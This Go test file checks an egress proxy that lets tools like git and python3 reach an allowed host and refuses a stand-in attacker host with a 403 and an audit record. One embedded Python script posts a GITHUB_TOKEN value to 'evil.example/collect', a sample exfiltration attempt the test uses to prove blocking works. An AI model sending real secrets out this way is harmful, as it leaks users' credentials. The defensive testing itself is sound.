package egress

import (
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Real programs through the proxy, as a tool runs them with the proxy
// variables ToolEnv gives: each reaches the allowed host and fails at the
// refused one, whose listener reads no byte.

func toolEnv(t *testing.T, proxy string, extra ...string) []string {
	t.Helper()
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + t.TempDir(), "LANG=C.UTF-8"}
	for _, n := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
		env = append(env, n+"=http://"+proxy)
	}
	return append(env, extra...)
}

// git clone over https (CONNECT) and over plain http (an absolute-URI
// request), from git http-backend standing for github.com.
func TestGitCloneThroughTheProxy(t *testing.T) {
	t.Parallel()
	backend := "/usr/lib/git-core/git-http-backend"
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	if _, err := os.Stat(backend); err != nil {
		t.Skip("no git-http-backend")
	}
	in := newInternet(t)
	root := t.TempDir()
	marker := "release notes " + canary(t)
	git := func(dir string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = toolEnv(t, "127.0.0.1:9", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.com",
			"GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.com")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	work := filepath.Join(root, "work")
	os.MkdirAll(work, 0o700)
	git(work, "init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(work, "NOTES"), []byte(marker), 0o600)
	git(work, "add", "NOTES")
	git(work, "commit", "-qm", "notes")
	git(root, "clone", "-q", "--bare", work, filepath.Join(root, "repo.git"))
	h := &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"}}
	cert, certPEM := selfSigned(t, "github.com", "api.github.com", "evil.example")
	plain, tlsSite := newSite(t, "git", nil, h), newSite(t, "git", cert, h)
	in.resolver["github.com:80"], in.resolver["github.com:443"] = plain.addr(), tlsSite.addr()
	// The sites' certificate is a new one: trust it instead.
	ca := filepath.Join(t.TempDir(), "ca.pem")
	os.WriteFile(ca, certPEM, 0o600)

	p, audit := newProxy(t, internetTOML, in, Options{})
	proxy := serve(t, p, Call{Tool: "bash", Secrets: []string{"GITHUB_TOKEN"}}).Host
	clone := func(u string) (string, error) {
		dst := filepath.Join(t.TempDir(), "clone")
		cmd := exec.Command("git", "clone", "-q", u, dst)
		cmd.Env = toolEnv(t, proxy, "GIT_CONFIG_NOSYSTEM=1", "GIT_SSL_CAINFO="+ca, "GIT_TERMINAL_PROMPT=0")
		out, err := cmd.CombinedOutput()
		if err != nil {
			return string(out), err
		}
		b, err := os.ReadFile(filepath.Join(dst, "NOTES"))
		return string(b), err
	}
	for _, u := range []string{"https://github.com/repo.git", "http://github.com/repo.git"} {
		if got, err := clone(u); err != nil || got != marker {
			t.Errorf("git clone %s: %v %q", u, err, got)
		}
	}
	for _, u := range []string{"https://evil.example/repo.git", "http://evil.example/repo.git"} {
		if out, err := clone(u); err == nil || !strings.Contains(out, "403") {
			t.Errorf("git clone %s: %v %q, want a failure naming the 403", u, err, out)
		}
	}
	noByte(t, in.evil)
	noByte(t, in.evilTLS)
	// A refusal is recorded before it is answered.
	audit.mu.Lock()
	defer audit.mu.Unlock()
	var denied int
	for _, r := range audit.recs {
		if r.Host == "evil.example" {
			denied++
			if r.Action != Deny {
				t.Errorf("record %+v", r)
			}
		}
	}
	if denied != 2 {
		t.Errorf("%d records of evil.example, want 2", denied)
	}
}

// python3's urllib, which reads the proxy variables, posting the token.
func TestPythonThroughTheProxy(t *testing.T) {
	t.Parallel()
	py := "/usr/bin/python3"
	if _, err := os.Stat(py); err != nil {
		t.Skip("no python3")
	}
	in := newInternet(t)
	p, _ := newProxy(t, internetTOML, in, Options{})
	proxy := serve(t, p, Call{Tool: "bash", Secrets: []string{"GITHUB_TOKEN"}}).Host
	token := "ghp_" + canary(t)
	script := `import os, ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile=os.environ["CA"])
req = urllib.request.Request(os.environ["URL"], data=("t=" + os.environ["GITHUB_TOKEN"]).encode())
try:
    print(urllib.request.urlopen(req, context=ctx).read().decode(), end="")
except Exception as e:
    print("failed:", e)
    sys.exit(1)
`
	run := func(u string) (string, error) {
		cmd := exec.Command(py, "-c", script)
		cmd.Env = toolEnv(t, proxy, "CA="+in.caFile, "URL="+u, "GITHUB_TOKEN="+token)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	for _, u := range []string{"https://evil.example/collect", "http://evil.example/collect"} {
		if out, err := run(u); err == nil || !strings.Contains(out, "403") {
			t.Errorf("python %s: %v %q, want a 403 failure", u, err, out)
		}
	}
	noByte(t, in.evil)
	noByte(t, in.evilTLS)
	for _, u := range []string{"https://github.com/collect", "http://github.com/collect"} {
		if out, err := run(u); err != nil || out != "ok from github" {
			t.Errorf("python %s: %v %q", u, err, out)
		}
	}
	if got := append(in.githubTLS.received(), in.github.received()...); !slices.Equal(got, []string{"t=" + token, "t=" + token}) {
		t.Errorf("github received %q", got)
	}
}
